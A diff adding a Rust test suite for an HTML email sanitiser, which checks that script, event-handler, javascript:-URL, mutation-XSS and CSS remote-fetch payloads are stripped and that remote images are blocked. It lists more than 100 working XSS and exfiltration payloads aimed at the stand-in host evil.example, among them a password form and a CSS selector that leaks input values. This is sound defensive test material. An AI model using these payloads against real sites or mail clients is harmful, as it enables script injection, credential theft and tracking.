@@ -1,0 +1,364 @@
+use super::*;
+
+const PIXEL: &[u8] = &[0x89, b'P', b'N', b'G', 1, 2, 3];
+
+fn image(content_id: &str, media_type: &str) -> InlineImage {
+    InlineImage { content_id: content_id.into(), media_type: media_type.into(), bytes: PIXEL.to_vec() }
+}
+
+/// What stands between `<body…>` and `</body>`.
+fn body(html: &str, remote: RemoteContent) -> (String, u32) {
+    let document = sanitise(html, &[image("logo@x", "image/png"), image("bad@x", "text/html")], remote);
+    let start = document.html.find("<body").unwrap();
+    (document.html[start..].trim_end_matches("</body></html>").to_owned(), document.blocked)
+}
+
+/// Hostile HTML in the spelling of many collections. None may leave any of [`FORBIDDEN`] in the content.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=//evil.example>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img \"\"\"><script>alert(1)</script>\">",
+    "<img src=`x` onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert(1);\">",
+    "<img src=\"jav&#x09;ascript:alert(1)\">",
+    "<img src=\" &#14; javascript:alert(1)\">",
+    "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
+    "<body onload=alert(1)>",
+    "<body background=\"javascript:alert(1)\">",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><image href=\"http://evil.example/a.png\"/></svg>",
+    "<svg><use href=\"http://evil.example/a.svg#x\"/></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=\"java\nscript:alert(1)\">x</a>",
+    "<a href=\"\x01javascript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"blob:http://x/y\">x</a><a href=\"file:///etc/passwd\">x</a>",
+    "<a href=\"/api/x\">x</a><a href=\"?q\">x</a><a href=\"#f\">x</a>",
+    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
+    "<a href=\"http://ok.example/\" ping=\"http://evil.example/\" download>x</a>",
+    "<iframe src=\"http://evil.example\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"http://evil.example/x.swf\"></object>",
+    "<embed src=\"http://evil.example/x.swf\">",
+    "<applet code=x></applet>",
+    "<frameset><frame src=\"http://evil.example\"></frameset>",
+    "<portal src=\"http://evil.example\"></portal>",
+    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
+    "<base href=\"http://evil.example/\">",
+    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
+    "<link rel=dns-prefetch href=\"//evil.example\"><link rel=preconnect href=\"//evil.example\">",
+    "<form action=\"http://evil.example\"><input name=p type=password><button formaction=\"http://evil.example\">x</button></form>",
+    "<input type=image src=\"http://evil.example/a.png\">",
+    "<isindex action=\"javascript:alert(1)\">",
+    "<video src=\"http://evil.example/a.mp4\" poster=\"http://evil.example/a.png\"></video>",
+    "<audio src=\"http://evil.example/a.mp3\" autoplay></audio>",
+    "<picture><source srcset=\"http://evil.example/a.png\"></picture>",
+    "<img srcset=\"http://evil.example/a.png 1x, http://evil.example/b.png 2x\">",
+    "<img src=\"http://evil.example/a.png\">",
+    "<img src=\"//evil.example/a.png\">",
+    "<img src=\"/\\evil.example/a.png\">",
+    "<img src=\"\\\\evil.example/a.png\">",
+    "<img src=\"https:evil.example/a.png\">",
+    "<img src=\" \n http://evil.example/a.png\">",
+    "<img src=\"data:text/html,<script>alert(1)</script>\">",
+    "<img src=\"cid:bad@x\">",
+    "<table background=\"http://evil.example/a.png\"><tr><td background=\"//evil.example/b.png\">x</td></tr></table>",
+    "<div style=\"background:url(http://evil.example/a.png)\">x</div>",
+    "<div style=\"background:url('http://evil.example/a.png')\">x</div>",
+    "<div style=\"background:\\75rl(http://evil.example/a.png)\">x</div>",
+    "<div style=\"background:u\\72 l( 'http://evil.example/a.png' )\">x</div>",
+    "<div style=\"background:url(//evil.example/a.png)\">x</div>",
+    "<div style=\"background:url(/**/http://evil.example/a.png)\">x</div>",
+    "<div style=\"background:image-set('http://evil.example/a.png' 1x)\">x</div>",
+    "<div style=\"background:-webkit-image-set(url(http://evil.example/a.png) 1x)\">x</div>",
+    "<div style=\"--a:'http://evil.example/a.png';background:image-set(var(--a) 1x)\">x</div>",
+    "<div style=\"background:src('http://evil.example/a.png')\">x</div>",
+    "<div style=\"list-style:url(http://evil.example/a.png);cursor:url(http://evil.example/c.cur),auto\">x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<div style=\"behavior:url(http://evil.example/x.htc)\">x</div>",
+    "<div style=\"-moz-binding:url('http://evil.example/x.xml#x')\">x</div>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<div style=\"background:url(http://evil.example/a.png\">x</div>",
+    "<div style=\"background:url('http://evil.example/a.png\n')\">x</div>",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<style>@import url(http://evil.example/x.css);</style>",
+    "<style>@\\69mport 'http://evil.example/x.css';</style>",
+    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
+    "<style>@media screen{a{background:url(http://evil.example/a.png)}}</style>",
+    "<style>@namespace 'http://evil.example/';</style>",
+    "<style>input[value^=a]{background:url(http://evil.example/?a)}</style>",
+    "<style>a{background:url(http://evil.example/a.png)",
+    "<style></style><img src=x onerror=alert(1)>",
+    "<style><!--</style><script>alert(1)</script>-->",
+    "<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>",
+    "<style>a{content:'<\\/style><img src=x onerror=alert(1)>'}</style>",
+    "<style media=\"x\" onload=\"alert(1)\">a{}</style>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
+    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
+    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
+    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
+    "<template><script>alert(1)</script></template>",
+    "<select><option><style></option></select><img src onerror=alert(1)></style>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[><script>alert(1)</script>]]>",
+    "<?xml version=\"1.0\"?><script>alert(1)</script>",
+    "<p title=\"<style>@import 'http://evil.example/';</style>\">x</p>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<x onfocus=alert(1) tabindex=0 autofocus>x</x>",
+    "<plaintext><script>alert(1)</script>",
+    "<div id=x name=y contenteditable autofocus accesskey=x draggable=true>x</div>",
+    "<div data-x=\"http://evil.example\" xmlns:x=\"http://evil.example\">x</div>",
+    "<q cite=\"http://evil.example\">x</q>",
+    "<html manifest=\"http://evil.example\"><head profile=\"http://evil.example\">",
+    "<td background=\"http://evil.example\">",
+    "<body style=\"background:url(http://evil.example/a.png)\" onload=alert(1)>x",
+    "<body class='\"><script>alert(1)</script>'>x",
+    "<body \"><script>alert(1)</script>x",
+    "<html lang='\"><script>alert(1)</script>'>x",
+];
+
+/// What must not be in the content in any form that a browser obeys. Attribute and element forms only: the words may
+/// well stand in a text.
+fn offences(content: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for (name, attributes) in tags(content) {
+        let known = ELEMENTS.contains(&name.as_str()) || name == "body";
+        if !known {
+            found.push(format!("<{name}>"));
+        }
+        for (attribute, value) in attributes {
+            if matches!(attribute.as_str(), "title" | "alt") {
+                continue;
+            }
+            let low = value.to_ascii_lowercase();
+            if attribute.starts_with("on") || matches!(attribute.as_str(), "srcset" | "ping" | "poster" | "id" | "cite")
+            {
+                found.push(format!("{attribute}="));
+            }
+            if low.contains("javascript:")
+                || low.contains("vbscript:")
+                || low.contains("evil.example/") && !(attribute == "style" && low.contains("--a:"))
+            {
+                found.push(format!("{attribute}={value}"));
+            }
+            if attribute == "href" && !["http:", "https:", "mailto:"].iter().any(|scheme| low.starts_with(scheme)) {
+                found.push(format!("href={value}"));
+            }
+            if attribute == "src" && !low.starts_with("data:image/") {
+                found.push(format!("src={value}"));
+            }
+        }
+    }
+    let mut rest = content;
+    while let Some(at) = rest.find("<style") {
+        let end = rest[at..].find("</style").unwrap_or(rest.len() - at) + at;
+        let css = rest[at..end].replace(['"', '\'', ' '], "");
+        if ["(http:", "(//", "(https:", "@import", "font-face"].iter().any(|fetch| css.contains(fetch)) {
+            found.push(rest[at..end].to_owned());
+        }
+        rest = &rest[end..];
+    }
+    found
+}
+
+/// The start tags of a document, as an HTML tokenizer sees them.
+fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+    use html5ever::buffer_queue::BufferQueue;
+    use html5ever::tokenizer::{
+        Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states::RawKind,
+    };
+
+    #[derive(Default)]
+    struct Collect(RefCell<Vec<Tag>>);
+    impl TokenSink for Collect {
+        type Handle = ();
+        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
+            if let Token::TagToken(tag) = token
+                && tag.kind == TagKind::StartTag
+            {
+                let style = &*tag.name == "style";
+                self.0.borrow_mut().push(tag);
+                if style {
+                    return TokenSinkResult::RawData(RawKind::Rawtext);
+                }
+            }
+            TokenSinkResult::Continue
+        }
+    }
+    let queue = BufferQueue::default();
+    queue.push_back(html.into());
+    let tokenizer = Tokenizer::new(Collect::default(), TokenizerOpts::default());
+    let _ = tokenizer.feed(&queue);
+    tokenizer.end();
+    let tags = tokenizer.sink.0.into_inner();
+    tags.into_iter()
+        .map(|tag| {
+            let attributes = tag.attrs.iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect();
+            (tag.name.to_string(), attributes)
+        })
+        .collect()
+}
+
+#[test]
+fn nothing_hostile_survives() {
+    assert!(HOSTILE.len() > 100);
+    for html in HOSTILE {
+        let (content, _) = body(html, RemoteContent::Blocked);
+        assert!(offences(&content).is_empty(), "{html}\n→ {content}\n{:?}", offences(&content));
+    }
+}
+
+#[test]
+fn nothing_hostile_survives_inside_other_elements_or_twice() {
+    for html in HOSTILE {
+        for around in [
+            "<table><tr><td>…</td></tr></table>",
+            "<p><b>…",
+            "<svg>…</svg>",
+            "<math><mi>…</mi></math>",
+            "<div title='…'>",
+        ] {
+            let once = body(&around.replace('…', html), RemoteContent::Blocked).0;
+            assert!(offences(&once).is_empty(), "{html} in {around}\n→ {once}\n{:?}", offences(&once));
+            let twice = body(&once, RemoteContent::Blocked).0;
+            assert!(offences(&twice).is_empty(), "{html} in {around}, twice\n→ {twice}");
+        }
+    }
+}
+
+#[test]
+fn what_a_user_allows_is_pictures_alone() {
+    for html in HOSTILE {
+        let (content, blocked) = body(html, RemoteContent::Allowed);
+        assert_eq!(blocked, 0, "{html}");
+        let bad: Vec<_> = offences(&content)
+            .into_iter()
+            .filter(|offence| {
+                !["src=http", "background=http", "style=", "<style"].iter().any(|fine| offence.starts_with(fine))
+                    || offence.contains("script:")
+                    || offence.contains("@import")
+            })
+            .collect();
+        assert!(bad.is_empty(), "{html}\n→ {content}\n{bad:?}");
+    }
+    let html = sanitise("<img src='http://a.example/x.png'>", &[], RemoteContent::Allowed).html;
+    assert!(html.contains("src=\"http://a.example/x.png\"") && html.contains("img-src data: https: http:;"), "{html}");
+}
+
+#[test]
+fn remote_pictures_are_counted_and_left_out() {
+    let html = "<body background='http://a.example/0.png'><img src='http://a.example/1.png' alt='One'>\
+                <table><tr><td background='//a.example/2.png'></td></table><p style='background:url(https://a.example/3.png) red'>x</p>\
+                <style>.a{background:url(http://a.example/4.png)}</style><img src='cid:logo@x'><img src='/5.png'>";
+    let (content, blocked) = body(html, RemoteContent::Blocked);
+    assert_eq!(blocked, 5, "{content}");
+    assert!(!content.contains("a.example"), "{content}");
+    assert!(content.contains("alt=\"One\""), "{content}");
+    assert_eq!(body(html, RemoteContent::Allowed).1, 0);
+}
+
+#[test]
+fn inline_images_become_data() {
+    for cid in ["cid:logo@x", "CID:LOGO@x", "cid:logo%40x"] {
+        let (content, blocked) =
+            body(&format!("<img src='{cid}'><p style='background:url({cid})'>"), RemoteContent::Blocked);
+        assert_eq!(content.matches("data:image/png;base64,iVBORwECAw==").count(), 2, "{content}");
+        assert_eq!(blocked, 0);
+    }
+    assert!(!body("<img src='cid:unknown@x'>", RemoteContent::Blocked).0.contains("cid:"));
+}
+
+#[test]
+fn a_newsletters_layout_survives() {
+    let html = "<html lang=de><head><title>News</title><style type=\"text/css\">@media (max-width:600px){.c{width:100%!important}} a>b{color:red}</style></head>\
+                <body bgcolor=\"#f4f4f4\" style=\"margin:0;background-color:#f4f4f4\" class=\"b\"><center>\
+                <table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" align=\"center\" bgcolor=\"#ffffff\" class=\"c\">\
+                <tr><td style=\"padding:20px;font-family:'Helvetica Neue',Arial\" valign=\"top\" colspan=2><font color=red face=arial>Hi</font>\
+                <a href=\"https://a.example/?a=1&amp;b=2\" style=\"color:#fff\">Go</a> <a href=\"mailto:a@b.example\">m</a></td></tr></table></center></body></html>";
+    let document = sanitise(html, &[], RemoteContent::Blocked);
+    for kept in [
+        "<html lang=\"de\">",
+        "@media (max-width:600px){.c{width:100%!important}} a>b{color:red}",
+        "<body",
+        "bgcolor=\"#f4f4f4\"",
+        "background-color:#f4f4f4",
+        "<center><table width=\"600\"",
+        "cellpadding=\"0\"",
+        "font-family:'Helvetica Neue',Arial",
+        "colspan=\"2\"",
+        "<font color=\"red\" face=\"arial\">Hi</font>",
+        "href=\"https://a.example/?a=1&amp;b=2\"",
+        "target=\"_blank\"",
+        "rel=\"noopener noreferrer\"",
+        "href=\"mailto:a@b.example\"",
+    ] {
+        assert!(document.html.contains(kept), "{kept} is not in\n{}", document.html);
+    }
+    assert!(!document.html.contains("News"), "{}", document.html);
+}
+
+#[test]
+fn the_policy_comes_first_and_allows_nothing_from_outside() {
+    let html = sanitise("<p>x", &[], RemoteContent::Blocked).html;
+    let head = html.find("<head>").unwrap() + "<head>".len();
+    assert!(
+        html[head..].starts_with("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"),
+        "{html}"
+    );
+    assert!(html.contains("img-src data:;") && !html.contains("http:") && !html.contains("https:"), "{html}");
+    assert!(html.contains("name=\"referrer\" content=\"no-referrer\""));
+}
+
+#[test]
+fn text_stays_text() {
+    let (content, _) = body("<p>1 &lt; 2 &amp; <b>url(http://evil.example)</b> @import</p>", RemoteContent::Blocked);
+    assert!(content.ends_with("<p>1 &lt; 2 &amp; <b>url(http://evil.example)</b> @import</p>"), "{content}");
+    let (rtl, _) = body("<body dir=rtl><p>سلام</p>", RemoteContent::Blocked);
+    assert!(rtl.starts_with("<body dir=\"rtl\"") && rtl.contains("سلام"), "{rtl}");
+}
+
+#[test]
+fn html_of_hostile_shape_takes_bounded_time() {
+    let started = std::time::Instant::now();
+    for (what, html) in [
+        ("deep", "<div>".repeat(200_000)),
+        ("formatting", "<b><a href=http://x.example>".repeat(20_000)),
+        ("misnested", "<b><p></b>".repeat(20_000)),
+        ("tables", "<table><tr><td>".repeat(20_000)),
+        ("css blocks", format!("<style>{}", "a{(".repeat(100_000))),
+        ("css functions", format!("<p style=\"{}\">", "calc(".repeat(100_000))),
+        ("attributes", format!("<p {}>", (0..20_000).map(|n| format!("a{n}=1 ")).collect::<String>())),
+        ("open comment", "<!--".repeat(300_000)),
+        ("unclosed styles", "<style>".repeat(100_000)),
+    ] {
+        let document = sanitise(&html, &[], RemoteContent::Blocked);
+        assert!(document.html.len() < 12 << 20, "{what}");
+        assert!(started.elapsed().as_secs() < 60, "{what} took too long");
+    }
+}
+
+#[test]
+fn html_without_end_is_cut_and_says_so() {
+    let document = sanitise(&"<p>é</p>".repeat(MAX_HTML_BYTES / 8), &[], RemoteContent::Blocked);
+    assert!(document.html.contains("the rest is not shown"));
+    assert!(!sanitise("<p>é</p>", &[], RemoteContent::Blocked).html.contains("the rest is not shown"));
+}
